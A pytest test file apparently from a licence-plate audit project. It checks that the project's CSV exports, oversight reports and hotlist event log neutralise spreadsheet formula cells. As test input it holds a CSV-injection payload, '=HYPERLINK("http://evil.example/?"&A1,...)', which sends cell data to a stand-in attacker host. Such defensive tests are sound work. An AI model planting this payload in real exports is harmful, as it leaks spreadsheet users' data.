"""Every CSV the project writes neutralises formula cells (OWASP CSV injection): a cell that
starts with =, +, -, @, a tab or a carriage return is written with a leading single quote."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from conftest import auth
from plateledger.api.app import create_app
from plateledger.app.platform import Platform
from plateledger.audit.events import canonical_bytes, search_event
from plateledger.audit.flock_export import export_lines
from plateledger.cli.oversight_cmd import app as oversight_cli
from plateledger.domain.csv_cells import FORMULA_STARTS, safe_cell

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _runnable(text: str) -> list[str]:
    return [c for c in _cells(text) if c.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_start_is_quoted(start: str) -> None:
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["plain", "24-77", "", 12, None, " =not first"])
def test_other_cells_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def _entry(reason: str, case: str) -> tuple[int, dict[str, object]]:
    event = search_event(
        at=datetime(2025, 7, 1, tzinfo=UTC), component="api", user_id="@u1", agency_id="home",
        outcome="success", search_id="s-1", purpose="investigation", case_number=case,
        reason=reason, on_behalf_of=None, query={"plate": "RT123"}, decisions=[],
        networks_searched=["n1"], networks_excluded=[], result_count=0,
    )  # fmt: skip
    return 0, json.loads(canonical_bytes(event))


@pytest.mark.parametrize("fmt", ["flock-org", "flock-network"])
def test_the_flock_layout_export_quotes_formula_cells(fmt: str) -> None:
    text = b"".join(export_lines([_entry(ATTACK, "+1-555")], fmt)).decode()
    assert _runnable(text) == []
    assert any(c.startswith("'+1-555") for c in _cells(text))


def test_the_oversight_report_csvs_quote_formula_cells(tmp_path: Path) -> None:
    source = tmp_path / "own.jsonl"
    index, entry = _entry(ATTACK, "-2")
    source.write_bytes(json.dumps({"index": index, "entry": entry}).encode() + b"\n")
    out = tmp_path / "out"
    result = CliRunner().invoke(oversight_cli, ["report", str(source), "--out", str(out),
                                                "--quiet"])  # fmt: skip
    assert result.exit_code == 0, result.output
    written = sorted(out.rglob("*.csv"))
    assert out / "searches.csv" in written
    assert "HYPERLINK" in (out / "searches.csv").read_text()
    for path in written:
        assert _runnable(path.read_text()) == [], path


@pytest.fixture
def client(platform: Platform) -> Iterator[TestClient]:
    with TestClient(create_app(platform, background=False), raise_server_exceptions=False) as c:
        yield c


def test_the_hotlist_event_log_quotes_formula_cells(client: TestClient, platform: Platform) -> None:
    admin = auth(platform, "il-admin")
    body = {"name": ATTACK, "purpose": "stolen_vehicle", "legal_basis": "@SUM(1+1)"}
    assert client.post("/api/v1/hotlists", json=body, headers=admin).status_code == 200
    text = client.get("/api/v1/hotlists/events", headers=admin).text
    assert "HYPERLINK" in text
    assert _runnable(text) == []
